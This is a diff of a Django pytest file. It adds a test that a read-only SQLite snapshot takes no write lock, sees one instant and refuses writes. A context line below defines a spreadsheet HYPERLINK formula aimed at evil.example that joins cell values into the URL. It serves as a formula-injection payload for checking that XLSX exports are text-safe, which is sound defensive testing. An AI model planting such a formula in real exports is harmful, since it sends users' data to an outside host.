@@ -137,6 +137,37 @@ def test_an_export_is_one_snapshot_while_households_are_added(people, users, are
     assert job.result["rows"] == job.result["residents"]
 
 
+@pytest.mark.django_db(transaction=True)
+def test_read_snapshot_takes_no_write_lock_sees_one_instant_and_refuses_writes(people):
+    from django.db import DatabaseError, connection, transaction
+
+    from ngoso.core.snapshot import read_snapshot
+
+    connection.close()  # a fresh connection: connecting must not bring back BEGIN IMMEDIATE
+    done = []
+
+    def writer():
+        try:
+            with transaction.atomic():
+                Household.objects.filter(pk=people.h1.pk).update(alley="Z")
+            done.append(True)
+        finally:
+            connection.close()
+
+    with read_snapshot():
+        assert Household.objects.filter(alley="Z").count() == 0
+        t = threading.Thread(target=writer)
+        t.start()
+        t.join(8)
+        assert done == [True]  # the writer did not wait for the snapshot to end
+        assert Household.objects.filter(alley="Z").count() == 0  # the snapshot still sees its own instant
+        with pytest.raises(DatabaseError):
+            Household.objects.filter(pk=people.h2.pk).update(alley="Y")  # read-only: a clear error, not "locked"
+    assert Household.objects.filter(alley="Z").count() == 1
+    Household.objects.filter(pk=people.h2.pk).update(alley="Y")  # writable again afterwards
+    assert Household.objects.get(pk=people.h2.pk).alley == "Y"
+
+
 # ----------------------------------------------------------------------------- 2. every XLSX cell is text-safe
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&S2&T2,"Bấm vào đây")'
